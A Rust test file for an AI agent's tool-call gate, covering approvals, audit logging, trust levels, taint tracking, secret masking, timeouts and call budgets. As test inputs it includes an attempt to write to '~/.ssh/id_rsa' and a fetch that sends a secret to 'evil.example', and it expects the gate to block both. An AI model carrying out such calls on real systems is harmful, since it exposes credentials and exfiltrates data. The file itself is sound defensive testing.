use crate::support::Core;
use namma_core::gate::policy::ApprovalMode;
use namma_core::ports::{AuditPhase, DeclineAll, ModelCall};
use namma_core::trust::{Taint, Trust};
use namma_protocol::{ApprovalDecision, ApprovalScope, Mode, Preview, ToolCallId, ToolOutcome, TurnEvent};
use namma_testkit::ScriptedApprover;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;
use tokio_util::sync::CancellationToken;

fn message(outcome: &ToolOutcome) -> String {
    match outcome {
        ToolOutcome::Failed { message, hint } => format!("{message} | {}", hint.clone().unwrap_or_default()),
        ToolOutcome::Declined { reason } => reason.clone(),
        other => panic!("neither failed nor declined: {other:?}"),
    }
}

#[tokio::test]
async fn an_allowed_call_runs_and_leaves_an_intent_and_a_done_row() {
    let core = Core::new();
    let scope = core.scope(Trust::Owner, Mode::Agent, Arc::new(DeclineAll));
    let finished = core.run("echo", r#"{"text":"hello"}"#, &scope).await;
    assert_eq!(finished.outcome, ToolOutcome::Succeeded { content: "hello".into() });
    assert_eq!(finished.fact.as_deref(), Some("1 line"));
    let rows = core.audit.all();
    let phases: Vec<_> = rows.iter().map(|row| (row.phase, row.verdict.as_str(), row.stage)).collect();
    assert_eq!(phases, [(AuditPhase::Intent, "allow", 6), (AuditPhase::Done, "succeeded", 6)]);
    assert_eq!(rows[0].input, r#"{"text":"hello"}"#);
}

#[tokio::test]
async fn without_an_approver_a_call_that_asks_is_declined_at_once_and_recorded() {
    let core = Core::new();
    let scope = core.scope(Trust::Autonomous, Mode::Agent, Arc::new(DeclineAll));
    let finished = core.run("scribble", r#"{"text":"a.txt"}"#, &scope).await;
    assert!(message(&finished.outcome).contains("nobody is here"));
    assert_eq!(core.scribble.runs.load(Ordering::SeqCst), 0, "it did not run");
    let row = &core.audit.all()[0];
    assert_eq!((row.phase, row.stage, row.code.as_str()), (AuditPhase::Refused, 5, "declined"));
    assert_eq!(row.approver.as_deref(), Some("nobody"));
    assert_eq!(row.trust, Trust::Autonomous);
}

#[tokio::test]
async fn a_declined_call_does_not_run_and_the_model_reads_why() {
    let core = Core::new();
    let approver = Arc::new(ScriptedApprover::declines(Some("use the other file")));
    let scope = core.scope(Trust::Owner, Mode::Agent, approver);
    let finished = core.run("scribble", r#"{"text":"a.txt"}"#, &scope).await;
    assert_eq!(finished.outcome, ToolOutcome::Declined { reason: "use the other file".into() });
    assert_eq!(core.scribble.runs.load(Ordering::SeqCst), 0);
    assert_eq!(finished.approvals.len(), 1, "what was shown is kept");
}

#[tokio::test]
async fn the_question_shows_the_thing_itself_and_the_exact_arguments() {
    let core = Core::new();
    *core.scribble.shown.lock().unwrap() = "-old\n+new".into();
    let approver = Arc::new(ScriptedApprover::allows_once(1));
    let scope = core.scope(Trust::Owner, Mode::Agent, approver.clone());
    let long = "x".repeat(40_000);
    let finished = core.run("scribble", &format!(r#"{{"text":"{long}.txt"}}"#), &scope).await;
    assert!(matches!(finished.outcome, ToolOutcome::Succeeded { .. }));
    let asked = &approver.asked()[0];
    assert_eq!(asked.input["text"].as_str().unwrap().len(), 40_004, "arguments are never cut");
    assert!(matches!(&asked.preview, Preview::Diff { diff, .. } if diff == "-old\n+new"));
    assert!(asked.sentence.starts_with("Write xxx"));
    assert_eq!(asked.scopes, [ApprovalScope::Once, ApprovalScope::Session]);
    assert_eq!(asked.undo, None, "overwriting cannot be taken back");
}

#[tokio::test]
async fn what_changed_after_it_was_shown_is_asked_anew() {
    let core = Core::new();
    let shown = core.scribble.shown.clone();
    let approver = Arc::new(
        ScriptedApprover::acts(move |_| {
            *shown.lock().unwrap() = "one byte more".into();
            ApprovalDecision::Allow { scope: ApprovalScope::Once }
        })
        .then_allows_once(),
    );
    let scope = core.scope(Trust::Owner, Mode::Agent, approver.clone());
    let finished = core.run("scribble", r#"{"text":"a.txt"}"#, &scope).await;
    assert!(matches!(finished.outcome, ToolOutcome::Succeeded { .. }));
    let asked = approver.asked();
    assert_eq!(asked.len(), 2);
    assert_ne!(asked[0].payload_hash, asked[1].payload_hash);
    assert!(asked[1].reasons.iter().any(|reason| reason.contains("changed")), "{:?}", asked[1].reasons);
    assert_eq!(core.scribble.runs.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn a_grant_covers_the_same_kind_in_this_session_and_nothing_else() {
    let core = Core::new();
    let approver = Arc::new(ScriptedApprover::allows_for_session());
    let scope = core.scope(Trust::Owner, Mode::Agent, approver.clone());
    for path in ["a.txt", "b.txt"] {
        let finished = core.run("scribble", &format!(r#"{{"text":"{path}"}}"#), &scope).await;
        assert!(matches!(finished.outcome, ToolOutcome::Succeeded { .. }), "{path}");
    }
    assert_eq!(approver.asked().len(), 1, "the second write into the same folder did not ask");
    let elsewhere = core.run("scribble", r#"{"text":"/tmp/namma-elsewhere/a.txt"}"#, &scope).await;
    assert!(matches!(elsewhere.outcome, ToolOutcome::Declined { .. }), "another folder asks");
    assert_eq!(approver.asked().len(), 2);
}

#[tokio::test]
async fn granted_folders_spare_the_question() {
    let core = Core::new();
    core.mode(ApprovalMode::Folders);
    let scope = core.scope(Trust::Owner, Mode::Agent, Arc::new(DeclineAll));
    let inside = core.run("scribble", r#"{"text":"/tmp/namma-granted/a.txt"}"#, &scope).await;
    assert!(matches!(inside.outcome, ToolOutcome::Succeeded { .. }));
    let outside = core.run("scribble", r#"{"text":"/tmp/namma-granted/../b.txt"}"#, &scope).await;
    assert!(matches!(outside.outcome, ToolOutcome::Declined { .. }));
}

#[tokio::test]
async fn for_a_call_that_breaks_every_rule_the_first_stage_answers() {
    let core = Core::new();
    core.audit.break_it();
    let scope = core.scope(Trust::Untrusted, Mode::Chat, Arc::new(DeclineAll));
    // 1: unknown; 2: chat mode has no tools; 3: untrusted; 4: a secret place; 5: nobody; 8: no audit
    let first = core.run("scribbel", r#"{"text":"~/.ssh/id_rsa"}"#, &scope).await;
    assert!(message(&first.outcome).contains("The closest is scribble"), "{first:?}");
    let second = core.run("scribble", r#"{"text":"~/.ssh/id_rsa"}"#, &scope).await;
    assert!(message(&second.outcome).contains("not available in this chat"), "{second:?}");
    let scope = core.scope(Trust::Untrusted, Mode::Agent, Arc::new(DeclineAll));
    let third = core.run("scribble", r#"{"text":"~/.ssh/id_rsa"}"#, &scope).await;
    assert!(message(&third.outcome).contains("may only look"), "{third:?}");
    let scope = core.scope(Trust::Owner, Mode::Agent, Arc::new(DeclineAll));
    let fourth = core.run("scribble", r#"{"text":"~/.ssh/id_rsa"}"#, &scope).await;
    assert!(message(&fourth.outcome).contains("keys or passwords"), "{fourth:?}");
    let fifth = core.run("scribble", r#"{"text":"a.txt"}"#, &scope).await;
    assert!(message(&fifth.outcome).contains("nobody is here"), "{fifth:?}");
    let eighth = core.run("echo", r#"{"text":"a"}"#, &scope).await;
    assert!(message(&eighth.outcome).contains("audit log cannot be written"), "{eighth:?}");
    assert_eq!(core.scribble.runs.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn wrong_arguments_get_a_letter_that_says_what_to_send() {
    let core = Core::new();
    let scope = core.scope(Trust::Owner, Mode::Agent, Arc::new(DeclineAll));
    for (arguments, expected) in [
        (r#"{"file":"a"}"#, "unknown field `file`"),
        (r#"{}"#, "missing field `text`"),
        (r#"{"text":5}"#, "invalid type: integer `5`"),
        (r#"{"names": cronjob_manage}"#, "line 1 column 11"),
        (r#"{"text":"a.txt","cont"#, "not valid JSON"),
    ] {
        let finished = core.run("echo", arguments, &scope).await;
        let said = message(&finished.outcome);
        assert!(said.contains(expected), "{arguments}: {said}");
    }
    let said = message(&core.run("echo", r#"{"file":"a"}"#, &scope).await.outcome);
    assert!(said.contains("Expected {text: string}; the keys that came are [file]"), "{said}");
    let said = message(&core.run("echo", r#"{"text":5}"#, &scope).await.outcome);
    assert!(said.contains("Expected {text: string}, each with a value that fits."), "{said}");
    assert!(core.audit.all().iter().all(|row| row.phase == AuditPhase::Refused && row.stage == 1));
    assert_eq!(core.audit.all().len(), 7, "one row each");
}

#[tokio::test]
async fn a_raw_line_break_in_the_arguments_is_understood() {
    let core = Core::new();
    let scope = core.scope(Trust::Owner, Mode::Agent, Arc::new(DeclineAll));
    let finished = core.run("echo", "{\"text\":\"line1\nline2\"}", &scope).await;
    assert_eq!(finished.outcome, ToolOutcome::Succeeded { content: "line1\nline2".into() });
}

#[tokio::test]
async fn a_tool_cannot_do_what_it_did_not_declare() {
    let core = Core::new();
    let scope = core.scope(Trust::Owner, Mode::Agent, Arc::new(DeclineAll));
    let finished = core.run("liar", r#"{"text":"x"}"#, &scope).await;
    assert!(message(&finished.outcome).contains("had not declared"), "{finished:?}");
}

#[tokio::test]
async fn a_panic_in_a_tool_is_a_failed_call_and_the_next_one_works() {
    let core = Core::new();
    let scope = core.scope(Trust::Owner, Mode::Agent, Arc::new(DeclineAll));
    let finished = core.run("boom", r#"{"text":"x"}"#, &scope).await;
    assert!(message(&finished.outcome).contains("fault of its own"));
    let next = core.run("echo", r#"{"text":"still here"}"#, &scope).await;
    assert_eq!(next.outcome, ToolOutcome::Succeeded { content: "still here".into() });
}

#[tokio::test]
async fn a_call_past_its_deadline_is_stopped_and_says_so() {
    let core = Core::new();
    let scope = core.scope(Trust::Owner, Mode::Agent, Arc::new(DeclineAll));
    let (finished, ()) = tokio::join!(core.run("hang", r#"{"text":"x"}"#, &scope), async {
        core.events.wait_for(|event| matches!(event, TurnEvent::ToolCallProgress { .. })).await;
        core.clock.advance(Duration::from_secs(61));
    });
    assert!(message(&finished.outcome).contains("stopped after 60 s"));
}

#[tokio::test]
async fn stop_interrupts_a_running_call_and_withdraws_an_open_question() {
    let core = Core::new();
    let cancel = CancellationToken::new();
    let call =
        |name: &str| ModelCall { id: ToolCallId::fresh(), name: name.into(), arguments: r#"{"text":"x"}"#.into() };
    let scope = core.scope(Trust::Owner, Mode::Agent, Arc::new(ScriptedApprover::never_answers()));
    let read = core.gate.read(call("hang"), scope.place());
    let stopping = async {
        core.events.wait_for(|event| matches!(event, TurnEvent::ToolCallProgress { .. })).await;
        cancel.cancel();
        loop {
            tokio::task::yield_now().await;
            core.clock.advance(Duration::from_secs(1));
        }
    };
    let finished = tokio::select! {
        finished = core.gate.run(read, &scope, &cancel) => finished,
        () = stopping => unreachable!(),
    };
    assert_eq!(finished.outcome, ToolOutcome::Interrupted);

    let cancel = CancellationToken::new();
    let read = core.gate.read(call("scribble"), scope.place());
    let (finished, ()) = tokio::join!(core.gate.run(read, &scope, &cancel), async {
        core.events.wait_for(|event| matches!(event, TurnEvent::ApprovalRequested { .. })).await;
        cancel.cancel();
    });
    assert_eq!(finished.outcome, ToolOutcome::Interrupted);
    assert!(core.events.all().iter().any(|event| matches!(event, TurnEvent::ApprovalWithdrawn { .. })));

    let read = core.gate.read(call("echo"), scope.place());
    let finished = core.gate.run(read, &scope, &cancel).await;
    assert_eq!(finished.outcome, ToolOutcome::Interrupted, "after Stop nothing starts");
}

#[tokio::test]
async fn text_from_outside_taints_the_turn_and_a_destination_it_names_must_be_asked() {
    let core = Core::new();
    let approver = Arc::new(ScriptedApprover::declines(None));
    let mut scope = core.scope(Trust::Owner, Mode::Agent, approver.clone());
    scope.add_owner_text("what is in a.txt? and see https://example.org/");
    let clean = core.run("fetch", r#"{"text":"https://example.org/"}"#, &scope).await;
    assert!(matches!(clean.outcome, ToolOutcome::Succeeded { .. }));
    let read = core.run("peek", r#"{"text":"a.txt"}"#, &scope).await;
    assert!(read.taint.contains(Taint::Document));
    assert!(scope.taint().contains(Taint::Document) && scope.taint().contains(Taint::Web));
    let named = core.run("fetch", r#"{"text":"https://example.org/"}"#, &scope).await;
    assert!(matches!(named.outcome, ToolOutcome::Succeeded { .. }), "the owner named it: {named:?}");
    let derived = core.run("fetch", r#"{"text":"https://evil.example/?d=secret"}"#, &scope).await;
    assert!(matches!(derived.outcome, ToolOutcome::Declined { .. }));
    assert_eq!(approver.asked()[0].scopes, [ApprovalScope::Once], "never for the whole session");
    assert!(approver.asked()[0].reasons[0].contains("evil.example"));
}

#[tokio::test]
async fn a_known_secret_never_reaches_the_model_or_the_audit() {
    let core = Core::new();
    core.redactor.add("MY_KEY", "tulsi-secret-42");
    let scope = core.scope(Trust::Owner, Mode::Agent, Arc::new(DeclineAll));
    let finished = core.run("echo", r#"{"text":"it is tulsi-secret-42"}"#, &scope).await;
    let ToolOutcome::Succeeded { content } = finished.outcome else { panic!("{finished:?}") };
    assert_eq!(content, "it is ***MY_KEY***\n[1 secret masked]");
    assert!(core.audit.all().iter().all(|row| !row.input.contains("tulsi")), "{:?}", core.audit.all());
}

#[tokio::test]
async fn a_huge_result_is_cut_before_it_goes_anywhere() {
    let core = Core::new();
    let scope = core.scope(Trust::Owner, Mode::Agent, Arc::new(DeclineAll));
    let huge = "y".repeat(200_000);
    let finished = core.run("echo", &format!(r#"{{"text":"{huge}"}}"#), &scope).await;
    let ToolOutcome::Succeeded { content } = finished.outcome else { panic!("{finished:?}") };
    assert!(content.len() < 2200, "{}", content.len());
    assert!(content.contains("bytes left out; open_result with the id"));
}

#[tokio::test]
async fn a_turn_has_a_budget_of_calls() {
    let core = Core::new();
    let scope = core.scope(Trust::Owner, Mode::Agent, Arc::new(DeclineAll));
    for _ in 0..20 {
        core.run("echo", r#"{"text":"a"}"#, &scope).await;
    }
    let finished = core.run("echo", r#"{"text":"a"}"#, &scope).await;
    assert!(message(&finished.outcome).contains("used its 20 tool calls"));
}

#[tokio::test]
async fn a_narrowed_scope_has_only_the_named_tools_and_can_never_grow() {
    let core = Core::new();
    let scope = core.scope(Trust::Owner, Mode::Agent, Arc::new(DeclineAll)).narrowed(["echo".to_owned()]);
    let wider = scope.clone().narrowed(["echo".to_owned(), "scribble".to_owned()]);
    let finished = core.run("scribble", r#"{"text":"a.txt"}"#, &wider).await;
    assert!(message(&finished.outcome).contains("not available"));
    assert_eq!(core.gate.specs(&wider).into_iter().map(|spec| spec.name).collect::<Vec<_>>(), ["echo"]);
}
